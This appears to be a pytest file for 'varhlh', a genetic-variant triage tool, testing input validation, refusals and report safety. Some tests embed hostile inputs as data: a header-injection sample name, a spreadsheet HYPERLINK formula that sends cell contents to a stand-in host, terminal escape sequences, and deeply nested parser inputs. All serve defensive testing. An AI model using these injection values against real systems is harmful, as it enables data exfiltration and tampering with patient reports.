    run = _fasta_run(run_cli, bare, "--prefix", "bare")
    assert run.code == 0, run.err
    assert sorted(p.name for p in bare_dir.iterdir()) == ["ref.fa.gz"]
    reference = _fasta_run(run_cli, indexed_fasta, "--prefix", "indexed")
    assert summary(run.json("bare")) == summary(reference.json("indexed"))


def test_item13_panel_chromosome_missing_from_the_fasta_is_stated(run_cli, fasta_copy) -> None:  # type: ignore[no-untyped-def]
    """A FASTA without a panel chromosome: exit 0 and no word that REF was never checked there."""
    run = _fasta_run(run_cli, fasta_copy())
    assert run.code == 0, run.err
    data = run.json()
    stated = [w for w in data["warnings"] if "has no sequence for chromosome(s)" in w]
    assert stated and "REF was not checked" in stated[0] and ", X:" in stated[0] and "10," not in stated[0]
    assert stated[0] in data["limitations"]


# ----------------------------------------------------------------------------------------------- item 14


def _with_info(tmp_path: Path, header: str, value: str, name: str = "af.vcf") -> Path:
    lines = BASE.read_text().splitlines(keepends=True)
    out = []
    for line in lines:
        if line.startswith("#CHROM"):
            out.append(header + "\n")
        if line.startswith(PRF1_LINE):
            fields = line.split("\t")
            fields[7] = f"{fields[7]};{value}"
            line = "\t".join(fields)
        out.append(line)
    path = tmp_path / name
    path.write_text("".join(out))
    return path


def _strict_json(path: Path) -> Any:
    def refuse(name: str) -> None:
        raise ValueError(name)

    return json.loads(path.read_text(), parse_constant=refuse)


@pytest.mark.parametrize(("declared", "value"), [
    ("Float", "inf"), ("Float", "1.5"), ("Float", "-0.2"), ("String", "nan"), ("String", "Infinity"),
])
def test_item14_impossible_frequency_is_refused(run_cli, tmp_path: Path, declared: str, value: str) -> None:  # type: ignore[no-untyped-def]
    """INFO gnomAD_AF=inf reached the JSON as Infinity (invalid JSON); AF outside [0, 1] was accepted."""
    vcf = _with_info(tmp_path, f'##INFO=<ID=gnomAD_AF,Number=A,Type={declared},Description="gnomAD AF">',
                     f"gnomAD_AF={value}")
    run = run_cli("triage", str(vcf))
    line = one_line_refusal(run.err, run.code, 3)
    assert "10:72358355" in line and "gnomAD_AF" in line


def test_item14_settings_nan_is_refused(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    config = tmp_path / "s.toml"
    config.write_text("ba1_af = nan\n")
    run = run_cli("triage", str(BASE), "--config", str(config))
    line = one_line_refusal(run.err, run.code, 4)
    assert "ba1_af" in line and "finite" in line


def test_item14_qual_inf_gives_strict_json(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    lines = [("\t".join([*line.split("\t")[:5], "Inf", *line.split("\t")[6:]]) if line.startswith(PRF1_LINE) else line)
             for line in BASE.read_text().splitlines(keepends=True)]
    vcf = tmp_path / "qual.vcf"
    vcf.write_text("".join(lines))
    run = run_cli("triage", str(vcf), "--format", "json,multiqc,phenopacket")
    assert run.code == 0, run.err
    for path in run.outdir.iterdir():
        _strict_json(path)


def test_item14_no_writer_emits_nan() -> None:
    from varhlh.report.output import check_finite
    from varhlh.report.tabular import json_bytes

    with pytest.raises(ValueError, match="Out of range float"):
        json_bytes({"x": float("nan")})
    with pytest.raises(ValueError, match="Out of range float"):  # list items go through the reused C encoder
        json_bytes({"set_aside": [{"id": "a"}, {"af": float("-inf")}]})
    with pytest.raises(ValueError, match=r"result\.variants\[0\]\.af is inf"):
        check_finite({"variants": [{"af": float("inf")}]})


# ----------------------------------------------------------------------------------------------- item 15


def test_item15_quote_in_sample_name_cannot_inject_header_keys(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """A '"' in the sample name ended the quoted value of ##varhlh_conclusion=<…> and added keys."""
    import pysam

    name = 'X",primary_hlh=undetermined,evil="1'
    vcf = tmp_path / "quote.vcf"
    vcf.write_text(with_sample(BASE.read_text(), name))
    run = run_cli("triage", str(vcf), "--format", "json,vcf", "--prefix", "q")
    assert run.code == 0, run.err
    with pysam.VariantFile(str(run.outdir / "q.varhlh.vcf.gz")) as annotated:
        record = next(r for r in annotated.header.records if r.key == "varhlh_conclusion")
        keys = list(record.keys())
        values = dict(record.items())
    assert keys == ["sample", "primary_hlh", "transplant_workup", "genes"]
    assert values["primary_hlh"] == "confirmed"
    assert values["sample"].replace('\\"', '"').strip('"') == name


def test_item15_structured_values_are_escaped() -> None:
    from varhlh.report.vcf_writer import _structured

    assert _structured("NA12878") == "NA12878"
    assert _structured('a"b') == '"a\\"b"'
    assert _structured("a\\b") == '"a\\\\b"'
    assert _structured("x\ny\tz") == '"x y z"'
    assert _structured("\x1b[31m") == '"\\\\x1b[31m"'


# ----------------------------------------------------------------------------------------------- item 16


def test_item16_failed_rerun_leaves_the_previous_set(run_cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    """The last rename of a rerun failed: 0.1.0 deleted the previous JSON/TSV and left the previous HTML (a stale
    report beside no result). Now a failed rerun leaves every previous file as it was."""
    out = tmp_path / "out"
    first = run_cli("triage", str(BASE), "-o", str(out), "--format", "json,tsv,html")
    assert first.code == 0, first.err
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    real = os.replace
    calls: list[str] = []

    def replace(src: Any, dst: Any) -> None:
        calls.append(str(dst))
        if str(dst).endswith(".varhlh.tsv"):
            raise OSError(errno.EIO, os.strerror(errno.EIO))
        real(src, dst)

    monkeypatch.setattr(os, "replace", replace)
    second = run_cli("triage", str(CONSTRUCTED / "sample_name_comma.vcf"), "-o", str(out), "--prefix", "NA12878",
                     "--format", "json,tsv")
    monkeypatch.undo()
    line = one_line_refusal(second.err, second.code, 6)
    assert "Input/output error" in line
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before


def test_item16_successful_rerun_removes_the_stale_report(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "out"
    assert run_cli("triage", str(BASE), "-o", str(out), "--format", "json,tsv,html").code == 0
    assert run_cli("triage", str(BASE), "-o", str(out), "--format", "json,tsv").code == 0
    assert sorted(p.name for p in out.iterdir()) == ["NA12878.varhlh.json", "NA12878.varhlh.tsv"]
    assert run_cli("report", str(out / "NA12878.varhlh.json"), "-o", str(out)).code == 0
    assert sorted(p.name for p in out.iterdir()) == ["NA12878.varhlh.html", "NA12878.varhlh.json",
                                                      "NA12878.varhlh.tsv"]


def test_item16_every_format_names_its_files() -> None:
    from varhlh.report.output import FORMATS, SUFFIXES

    assert set(SUFFIXES) == set(FORMATS)


# ----------------------------------------------------------------------------------------------- item 17


def test_item17_tsv_cells_cannot_start_formulas(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """CWE-1236: a cell starting with = + - @ is a formula in a spreadsheet."""
    name = '=HYPERLINK("http://x.invalid/?"&A1,"open")'
    vcf = tmp_path / "formula.vcf"
    vcf.write_text(with_sample(BASE.read_text(), name))
    run = run_cli("triage", str(vcf), "--prefix", "f")
    assert run.code == 0, run.err
    lines = (run.outdir / "f.varhlh.tsv").read_text().splitlines()
    rows = [line.split("\t") for line in lines[3:]]  # after the completeness and listing lines and the header
    assert rows and {row[0] for row in rows} == {"'" + name}
    assert run.json("f")["sample"]["id"] == name  # the JSON keeps the value as it is
    for row in rows:
        assert all(cell[:1] not in "=+-@" for cell in row)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+2", "@SUM(A1)", " =1", "\t=1", "\r=1", "\uff1d1"])
def test_item17_cell_neutralisation(value: str) -> None:
    from varhlh.report.tabular import _cell

    cell = _cell(value)
    assert cell.startswith("'") and "\t" not in cell and "\r" not in cell


# ----------------------------------------------------------------------------------------------- item 18


@pytest.mark.parametrize(("umask", "mode"), [(0o027, 0o640), (0o077, 0o600), (0o022, 0o644), (0o002, 0o664)])
def test_item18_outputs_honour_the_umask(tmp_path: Path, umask: int, mode: int) -> None:
    """Outputs were chmod 0644 whatever the umask (patient data readable by every local user)."""
    out = tmp_path / "out"
    run = subprocess.run([sys.executable, "-m", "varhlh", "triage", str(BASE), "-o", str(out), "-q", "--format",
                          "json,tsv,vcf"], capture_output=True, text=True, timeout=120,
                         preexec_fn=lambda: os.umask(umask))
    assert run.returncode == 0, run.stderr
    files = list(out.iterdir())
    assert len(files) == 4
    assert {p.name: p.stat().st_mode & 0o777 for p in files} == {p.name: mode for p in files}


# ----------------------------------------------------------------------------------------------- item 19


@pytest.mark.parametrize("option", ["--ped", "--clinical", "--config", "--panel"])
@pytest.mark.parametrize("how", ["same_path", "hard_link", "symlink"])
def test_item19_outputs_never_overwrite_an_input(run_cli, tmp_path: Path, option: str, how: str) -> None:  # type: ignore[no-untyped-def]
    """--ped, --clinical, --config (or a panel file) stored at an output path was overwritten by the output."""
    import yaml

    out, keep = tmp_path / "out", tmp_path / "inputs"
    out.mkdir()
    keep.mkdir()
    content = {"--ped": TRIO_PED.read_bytes(),
               "--clinical": json.dumps(yaml.safe_load((ROOT / "examples" / "clinical_context.yaml").read_text()))
               .encode(),
               "--config": b"min_gq = 20\n",
               "--panel": (ROOT / "gene_panels" / "hlh_genes.tsv").read_bytes()}[option]
    target = out / ("HG002.varhlh.tsv" if option in ("--ped", "--panel") else "HG002.varhlh.json")
    original = keep / target.name
    original.write_bytes(content)
    if option == "--panel":  # the genes file names its siblings, resolved next to the path given
        for sibling in ("hlh_exons.tsv", "hlh_known_variants.tsv"):
            for directory in (out, keep):
                shutil.copy(ROOT / "gene_panels" / sibling, directory / sibling)
        for directory in (out, keep):
            shutil.copytree(ROOT / "gene_panels" / "knowledge", directory / "knowledge")
    if how == "same_path":
        shutil.move(original, target)
        given = target
    elif how == "hard_link":
        os.link(original, target)
        given = original
    else:
        target.symlink_to(original)
        given = target
    extra = [] if option == "--ped" else ["--ped", str(TRIO_PED)]
    run = run_cli("triage", str(TRIO), "-s", "HG002", option, str(given), *extra, "-o", str(out))
    line = one_line_refusal(run.err, run.code, 6)
    assert "would overwrite an input file" in line
    assert given.read_bytes() == content and target.read_bytes() == content


# ----------------------------------------------------------------------------------------------- item 20


def _edited(tmp_path: Path, name: str, edit: Callable[[str], str]) -> Path:
    seed = tmp_path / "seed"
    if not (seed / "NA12878.varhlh.json").exists():
        assert varhlh("triage", str(BASE), "-o", str(seed), "-q").returncode == 0
    path = tmp_path / f"{name}.json"
    path.write_text(edit((seed / "NA12878.varhlh.json").read_text()))
    return path


def _first_pos(text: str, value: str) -> str:
    data = json.loads(text)
    pos = data["variants"][0]["pos"]
    return text.replace(f'"pos": {pos}', f'"pos": {value}', 1)


@pytest.mark.parametrize(("name", "edit", "expected"), [
    ("deep_nesting", lambda t: t.replace('"warnings": [', '"warnings": [' + "[" * 100_000 + "]" * 100_000 + ",", 1),
     "nested too deeply"),
    ("deep_but_parsable", lambda t: t.replace("{", '{"x": ' + "[" * 200 + "]" * 200 + ",", 1), "nested deeper than"),
    ("nan_position", lambda t: _first_pos(t, "NaN"), "NaN is not a JSON number"),
    ("infinite_position", lambda t: _first_pos(t, "Infinity"), "Infinity is not a JSON number"),
    ("huge_position", lambda t: _first_pos(t, "1" + "0" * 400), "out of range"),
    ("huge_float", lambda t: _first_pos(t, "1e999"), "out of range"),
    ("null_reasons", lambda t: t.replace('"reasons": [', '"reasons": null, "x": [', 1), "not a complete varhlh result"),
    ("numeric_enum", lambda t: t.replace('"zygosity": "hom"', '"zygosity": 3', 1), "not a complete varhlh result"),
])
def test_item20_hand_edited_result_is_refused(tmp_path: Path, name: str, edit: Callable[[str], str],
                                              expected: str) -> None:
    """`varhlh report` on a hand-edited result: tracebacks on deep nesting, NaN positions, huge numbers."""
    path = _edited(tmp_path, name, edit)
    run = varhlh("report", str(path), "-o", str(tmp_path / "out"))
    line = one_line_refusal(run.stderr, run.returncode, 3)
    assert str(path) in line and expected in line, line
    assert not (tmp_path / "out").exists() or list((tmp_path / "out").iterdir()) == []


# ----------------------------------------------------------------------------------------------- item 21


@pytest.mark.parametrize(("text", "expected"), [
    ("1: 2\n", "field names must be text"),
    ("? [a, b]\n: 1\n", "not valid YAML"),
    ("ferritin_ug_per_l: 1" + "0" * 400 + "\n", "outside the plausible range"),
    ("ferritin_ug_per_l: 1" + "0" * 5000 + "\n", "not valid YAML"),
    ("ferritin_ug_per_l: 1.0e+999\n", "outside the plausible range"),
    ("ferritin_ug_per_l: .nan\n", "outside the plausible range"),
    ("hlh_course: [active]\n", "'hlh_course' must be one of"),
    ("hlh_course: {a: 1}\n", "'hlh_course' must be one of"),
])
def test_item21_clinical_yaml_tracebacks(run_cli, tmp_path: Path, text: str, expected: str) -> None:  # type: ignore[no-untyped-def]
    """Numeric keys (sorted() of int and str), huge integers (OverflowError) and odd values raised tracebacks."""
    path = tmp_path / "clinical.yaml"
    path.write_text(text)
    run = run_cli("triage", str(BASE), "--clinical", str(path))
    line = one_line_refusal(run.err, run.code, 3)
    assert expected in line, line


def test_item21_deeply_nested_toml(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    config = tmp_path / "s.toml"
    config.write_text("x = " + "[" * 5000 + "]" * 5000 + "\n")
    run = run_cli("triage", str(BASE), "--config", str(config))
    line = one_line_refusal(run.err, run.code, 4)
    assert "nested too deeply" in line


@pytest.mark.parametrize("value", ["72357104\u00b2", "\u00b2", "\u0663\u0662", "1" + "0" * 5000])
def test_item21_non_ascii_digits_in_panel_coordinates(run_cli, tmp_path: Path, value: str) -> None:  # type: ignore[no-untyped-def]
    """'²'.isdigit() is True but int('²') raises: a traceback from `panel validate`."""
    genes = _panel_copy(tmp_path)
    _edit_row(genes, "PRF1", lambda row: row.update(grch37_start=value))
    run = run_cli("panel", "validate", str(genes))
    line = one_line_refusal(run.err, run.code, 4)
    assert "expected a positive integer (digits 0-9)" in line and len(line) < 400


class _Stdin:
    def __init__(self, data: bytes) -> None:
        import io

        self.buffer = io.BufferedReader(io.BytesIO(data))  # type: ignore[arg-type]


@pytest.mark.parametrize("error", [errno.ENOSPC, errno.EFBIG])
def test_item21_disk_full_while_spooling_stdin(run_cli, monkeypatch: pytest.MonkeyPatch, error: int) -> None:  # type: ignore[no-untyped-def]
    """ENOSPC/EFBIG while standard input was copied to $TMPDIR: an OSError traceback."""
    from varhlh import fileio

    monkeypatch.setattr(sys, "stdin", _Stdin(BASE.read_bytes()))
    real = fileio._write_spool
    written: list[int] = []

    def full(out: Any, data: bytes, directory: Path, shown: str) -> None:
        written.append(len(data))
        if len(written) > 1:
            class Full:
                def write(self, _data: bytes) -> int:
                    raise OSError(error, os.strerror(error))
            out = Full()
        real(out, data, directory, shown)

    monkeypatch.setattr(fileio, "_write_spool", full)
    monkeypatch.setattr(fileio, "CHUNK", 1 << 16)
    run = run_cli("triage", "-")
    line = one_line_refusal(run.err, run.code, 6)
    assert os.strerror(error) in line and "TMPDIR" in line


def test_item21_file_size_limit_while_spooling_in_a_real_process(tmp_path: Path) -> None:
    """The same with the kernel's own EFBIG (RLIMIT_FSIZE), as a quota or a full small /tmp gives it."""
    def limit() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (64 << 10, 64 << 10))

    with BASE.open("rb") as stdin:
        run = subprocess.run([sys.executable, "-m", "varhlh", "triage", "-", "-o", str(tmp_path / "out")], stdin=stdin,
                             capture_output=True, text=True, timeout=120, preexec_fn=limit,
                             env={**os.environ, "TMPDIR": str(tmp_path)})
    line = one_line_refusal(run.stderr, run.returncode, 6)
    assert "File too large" in line


@pytest.mark.parametrize(("args", "status"), [((), 0), (("-s", "nobody"), 3)])
def test_item21_stderr_on_dev_full(tmp_path: Path, args: tuple[str, ...], status: int) -> None:
    """`2>/dev/full`: logging and the error line cannot be written; the run still ends with its own exit code."""
    with Path("/dev/full").open("w") as full:
        run = subprocess.run([sys.executable, "-m", "varhlh", "triage", str(BASE), "-o", str(tmp_path / "out"),
                              *args], stdout=subprocess.PIPE, stderr=full, timeout=120)
    assert run.returncode == status
    assert (tmp_path / "out" / "NA12878.varhlh.json").exists() == (status == 0)


# ----------------------------------------------------------------------------------------------- item 22


@pytest.mark.parametrize(("toml", "expected"), [
    ("min_het_allele_fraction = 7\n", "between 0 and 1 (a fraction)"),
    ("ba1_af = 0.00001\n", "ba1_af = 1e-05 is below bs1_af = 0.003"),
    ("pm2_max_af = 0.002\n", "bs1_supporting_af = 0.001 is below pm2_max_af = 0.002"),
    ("sex_male_het_fraction = 0.5\n", "must be below sex_female_het_fraction"),
    ("online_vep_batch_size = 0\n", "between 1 and 1000"),
    ("min_gq = 100000000000000000000000\n", "between 0 and 10000"),
    ("max_line_bytes = 10\n", "between 65536 and"),
])
def test_item22_implausible_settings_are_refused(run_cli, tmp_path: Path, toml: str, expected: str) -> None:  # type: ignore[no-untyped-def]
    config = tmp_path / "s.toml"
    config.write_text(toml)
    run = run_cli("triage", str(BASE), "--config", str(config))
    line = one_line_refusal(run.err, run.code, 4)
    assert expected in line, line


@pytest.mark.parametrize(("yaml_text", "expected"), [
    ("temperature_c: 102.5\n", "looks like °F: 39.2 °C"),
    ("temperature_c: 3.9\n", "outside the plausible range 25 to 45"),
    ("hemoglobin_g_per_l: 85\nhemoglobin_g_per_dl: 8.5\n", "give the same quantity twice"),
    ("ferritin_ug_per_l: 900\nferritin_ng_per_ml: 900\n", "give the same quantity twice"),
    ("ferritin_ug_per_l: 900\nferritin_ug_per_l: 9000\n", "is given twice"),
    ("hemoglobin_g_per_dl: 85\n", "outside the plausible range 10 to 250 for hemoglobin_g_per_l (= 1 to 25 as "
                                   "hemoglobin_g_per_dl)"),
])
def test_item22_implausible_clinical_values_are_refused(run_cli, tmp_path: Path, yaml_text: str,  # type: ignore[no-untyped-def]
                                                        expected: str) -> None:
    """°F in temperature_c was a fever-free 102.5 °C; the same quantity in two units: the last key won."""
    path = tmp_path / "clinical.yaml"
    path.write_text(yaml_text)
    run = run_cli("triage", str(BASE), "--clinical", str(path))
    line = one_line_refusal(run.err, run.code, 3)
    assert expected in line, line


def test_item22_duplicate_json_keys_and_constants(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    for text, expected in (('{"ferritin_ug_per_l": 900, "ferritin_ug_per_l": 9000}', "is given twice"),
                           ('{"ferritin_ug_per_l": NaN}', "NaN is not a number")):
        path = tmp_path / "clinical.json"
        path.write_text(text)
        run = run_cli("triage", str(BASE), "--clinical", str(path))
        assert expected in one_line_refusal(run.err, run.code, 3)


def test_item22_example_clinical_context_is_plausible(run_cli) -> None:  # type: ignore[no-untyped-def]
    assert run_cli("triage", str(BASE), "--clinical", str(ROOT / "examples" / "clinical_context.yaml")).code == 0


# ----------------------------------------------------------------------------------------------- item 23


@pytest.mark.parametrize(("name", "expected"), [
    ("ped_own_parent.ped", "given as their own parent"),
    ("ped_cycle.ped", "a parent/child cycle"),
    ("ped_same_person_both_parents.ped", "is both father and mother"),
])
def test_item23_impossible_pedigrees_are_refused(run_cli, name: str, expected: str) -> None:  # type: ignore[no-untyped-def]
    run = run_cli("triage", str(TRIO), "--ped", str(CONSTRUCTED / name))
    line = one_line_refusal(run.err, run.code, 3)
    assert expected in line and name in line


def test_item23_byte_order_mark_is_not_part_of_the_family_id(run_cli) -> None:  # type: ignore[no-untyped-def]
    from varhlh.genotype.pedigree import read_ped

    ped = CONSTRUCTED / "ped_with_bom.ped"
    assert ped.read_bytes().startswith(b"\xef\xbb\xbf")
    assert {p.family for p in read_ped(ped).people} == {"ash"}
    run = run_cli("triage", str(TRIO), "--ped", str(ped))
    assert run.code == 0, run.err
    assert summary(run.json()) == summary(run_cli("triage", str(TRIO), "--ped", str(TRIO_PED)).json())


# ----------------------------------------------------------------------------------------------- item 24


def test_item24_control_characters_are_escaped_in_messages(tmp_path: Path) -> None:
    """Terminal escape sequences in a sample name were echoed raw into the error message."""
    evil = "\x1b[2J\x1b[31mPWNED\x07\u202e"
    vcf = tmp_path / "evil.vcf"
    vcf.write_text(with_sample(TRIO.read_text(), evil, "HG003", "HG004"))
    run = varhlh("triage", str(vcf), "-o", str(tmp_path / "out"))
    line = one_line_refusal(run.stderr, run.returncode, 3)
    assert "\x1b" not in run.stderr and "\x07" not in run.stderr and "\u202e" not in run.stderr
    assert "\\x1b[2J\\x1b[31mPWNED\\x07\\u202e, HG003, HG004" in line


def test_item24_logged_warnings_are_escaped_too(tmp_path: Path) -> None:
    ped = tmp_path / "family.ped"
    ped.write_text(TRIO_PED.read_text() + "ash\tSIB\x1b]0;title\x07\tHG003\tHG004\t1\t1\n")
    run = varhlh("triage", str(TRIO), "--ped", str(ped), "-s", "HG002", "-o", str(tmp_path / "out"))
    assert run.returncode == 0, run.stderr
    assert "\x1b" not in run.stderr and "SIB\\x1b]0;title\\x07" in run.stderr


def test_item5_small_inputs_from_pipes_are_read_once(tmp_path: Path) -> None:
    """--ped/--clinical/--config given as <(…) are read once each (a second open of a drained pipe would wait for a
    writer forever)."""
    command = (f"{sys.executable} -m varhlh triage {BASE} -o {tmp_path / 'out'} -q "
               "--ped <(printf 'fam\\tNA12878\\t0\\t0\\t2\\t2\\n') "
               f"--clinical <(cat {ROOT / 'examples' / 'clinical_context.yaml'}) --config <(echo 'min_gq = 20')")
    run = subprocess.run(["bash", "-c", command], capture_output=True, text=True, timeout=120)
    assert run.returncode == 0, run.stderr
    data = json.loads((tmp_path / "out" / "NA12878.varhlh.json").read_text())
    assert data["sample"]["sex"] == "female" and data["sample"]["sex_source"] == "ped"
